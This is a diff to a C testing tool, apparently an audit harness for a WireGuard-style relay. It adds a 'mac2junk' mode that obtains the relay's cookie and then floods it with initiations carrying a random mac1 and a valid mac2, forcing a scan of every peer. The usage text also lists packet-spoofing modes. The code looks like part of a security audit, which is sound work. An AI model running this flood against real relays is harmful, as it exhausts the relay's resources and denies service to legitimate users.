@@ -81,6 +81,13 @@
  *
  * fill, with one sender index for every initiation: a chain of sessions on one
  * receiver index, from NPORTS initiator endpoints (pass 5, F3 and F6).
+ *
+ *   wgr-forge mac2junk ADDR PORT SECONDS PPS NPORTS PUBKEY
+ *
+ * Junk that the relay counts as verified (pass 5, F1): each of NPORTS sockets
+ * first earns the relay's cookie with one initiation whose mac1 is valid for
+ * PUBKEY, then all send initiations with a random mac1 (nobody's: a scan of
+ * every peer finds no one) and a valid mac2, PPS a second in all, for SECONDS.
  */
 #include <arpa/inet.h>
 #include <errno.h>
@@ -907,6 +914,67 @@ static int fill(int argc, char **argv, bool chain)
 	return 0;
 }
 
+/* Initiations the relay must scan every peer for, each with a valid relay mac2. */
+static int mac2junk(int argc, char **argv)
+{
+	struct sockaddr_storage to;
+	uint8_t pub[32], msg[1600], cookies[16][16];
+	long seconds, pps, nports, sent = 0;
+	int fds[16], with_cookie = 0;
+	struct timespec next;
+	socklen_t len;
+
+	if (argc != 8 || !(len = parse_ep(&to, argv[2], argv[3])) ||
+	    (seconds = strtol(argv[4], NULL, 10)) <= 0 || seconds > 3600 ||
+	    (pps = strtol(argv[5], NULL, 10)) <= 0 || pps > 10000 ||
+	    (nports = strtol(argv[6], NULL, 10)) <= 0 || nports > 16 ||
+	    !key_from_base64(pub, argv[7])) {
+		fprintf(stderr, "usage: wgr-forge mac2junk ADDR PORT SECONDS(1..3600) PPS(1..10000) "
+				"NPORTS(1..16) PUBKEY\n");
+		return 2;
+	}
+	for (long i = 0; i < nports; i++) {
+		int got = 0;
+
+		fds[with_cookie] = stage_socket(&to, len);
+		/* The relay answers a mac1-valid initiation without mac2 with its cookie. */
+		for (int try = 0; try < 5 && !got; try++) {
+			if (send(fds[with_cookie], msg, make("initiation", msg, pub), 0) < 0)
+				return perror("wgr-forge: mac2junk"), 1;
+			if (stage_wait(fds[with_cookie], 3, msg, sizeof(msg)) == 64) {
+				cookie_open(cookies[with_cookie], msg, pub);
+				got = 1;
+			}
+		}
+		if (got)
+			with_cookie++;
+		else
+			close(fds[with_cookie]);
+	}
+	printf("mac2junk: %d of %ld ports have the relay's cookie\n", with_cookie, nports);
+	fflush(stdout);
+	if (!with_cookie)
+		return 1;
+	clock_gettime(CLOCK_MONOTONIC, &next);
+	for (long k = 0; k < seconds * pps; k++) {
+		int i = (int)(k % with_cookie);
+
+		make("initiation", msg, pub);
+		fill_random(msg + 116, 16);	/* nobody's mac1 */
+		set_mac2(msg, cookies[i]);
+		if (send(fds[i], msg, 148, 0) >= 0)
+			sent++;
+		next.tv_nsec += 1000000000L / pps;
+		while (next.tv_nsec >= 1000000000L) {
+			next.tv_nsec -= 1000000000L;
+			next.tv_sec++;
+		}
+		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
+	}
+	printf("mac2junk: %ld initiations with mac2 sent\n", sent);
+	return 0;
+}
+
 /* HChaCha20 against draft-irtf-cfrg-xchacha-03's vector. */
 static int selftest(void)
 {
@@ -973,6 +1041,8 @@ int main(int argc, char *argv[])
 		return mix(argc, argv);
 	if (argc >= 2 && (!strcmp(argv[1], "fill") || !strcmp(argv[1], "chain")))
 		return fill(argc, argv, !strcmp(argv[1], "chain"));
+	if (argc >= 2 && !strcmp(argv[1], "mac2junk"))
+		return mac2junk(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "cookieprobe"))
 		return cookieprobe(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "onedata"))
@@ -1014,6 +1084,7 @@ int main(int argc, char *argv[])
 				"       wgr-forge spoof SRC_ADDR SRC_PORT ADDR PORT MODE COUNT [PUBKEY]\n"
 				"       wgr-forge spoofstage ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET "
 				"PUB_VICTIM [SECONDS]\n"
+				"       wgr-forge mac2junk ADDR PORT SECONDS PPS NPORTS PUBKEY\n"
 				"       wgr-forge cookieprobe ADDR PORT PUBKEY\n");
 		return 2;
 	}
